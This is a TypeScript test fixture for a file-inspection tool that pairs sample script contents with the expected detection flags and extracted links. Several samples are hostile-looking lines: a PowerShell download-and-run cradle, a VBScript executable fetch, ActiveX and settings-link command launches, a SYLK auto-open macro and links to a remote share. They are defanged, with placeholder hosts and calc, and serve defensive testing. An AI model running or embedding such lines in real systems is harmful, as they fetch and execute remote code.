// Examples of scripts; none of them does anything.
import type { InspectorExample } from "../types.ts";

const sees = (
  filename: string,
  text: string,
  title: string,
  flags: string[] = [],
  links?: string[],
): InspectorExample => ({
  part: { filename, octets: Buffer.from(text) },
  sees: { title, flags, ...(links && { links }) },
});

export function scriptExamples(): InspectorExample[] {
  return [
    sees("a.js", "var a = 1;", "JavaScript"),
    sees("a.js", 'new ActiveXObject("WScript.Shell").Run("calc")', "JavaScript", ["script-acts"]),
    sees(
      "a.vbs",
      'x.Open "GET", "http://example.test/a.exe"\r\nCreateObject("ADODB.Stream")',
      "VBScript",
      ["script-acts"],
      ["http://example.test/a.exe"],
    ),
    sees("a.txt", "#@~^AAAAAA==", "Encoded JavaScript"),
    sees("a.bat", "@echo off\r\necho Hello\r\n", "Batch script"),
    sees(
      "a.ps1",
      "IEX (New-Object Net.WebClient).DownloadString('http://example.test/')",
      "PowerShell script",
      ["script-acts"],
      ["http://example.test/"],
    ),
    sees(
      "a.hta",
      "<hta:application/><script>1</script>",
      "HTML application, which runs without the walls of a browser",
    ),
    sees(
      "a.url",
      "[InternetShortcut]\r\nURL=https://example.com/\r\n",
      "Internet shortcut",
      [],
      ["https://example.com/"],
    ),
    sees("a.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.lnk\r\n", "Internet shortcut", [
      "shortcut-to-server",
    ]),
    sees("a.desktop", "[Desktop Entry]\nExec=sh -c true\n", "Desktop entry, which can start a command"),
    sees("a.iqy", "WEB\r\n1\r\nhttp://example.test/data\r\n", "Web query, which loads data from an address", [
      "document-loads",
    ]),
    sees("a.slk", "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1;KOut\r\n", "Symbolic link sheet, which can hold macros", [
      "excel4-macros",
    ]),
    sees("a.slk", "ID;PWXL;N;E\r\nC;Y1;X1;K1\r\n", "Symbolic link sheet, which can hold macros"),
    sees(
      "a.library-ms",
      "<simpleLocation><url>\\\\192.0.2.1\\share</url></simpleLocation>",
      "Windows library, which can point to a server",
      ["shortcut-to-server"],
    ),
    sees(
      "a.settingcontent-ms",
      "<DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink>",
      "Windows settings link, which can start a command",
      ["script-acts"],
    ),
    sees("build", "#!/bin/sh\necho\n", "Shell script"),
    { part: { filename: "a.txt", octets: Buffer.from("echo hello") }, sees: null },
  ];
}
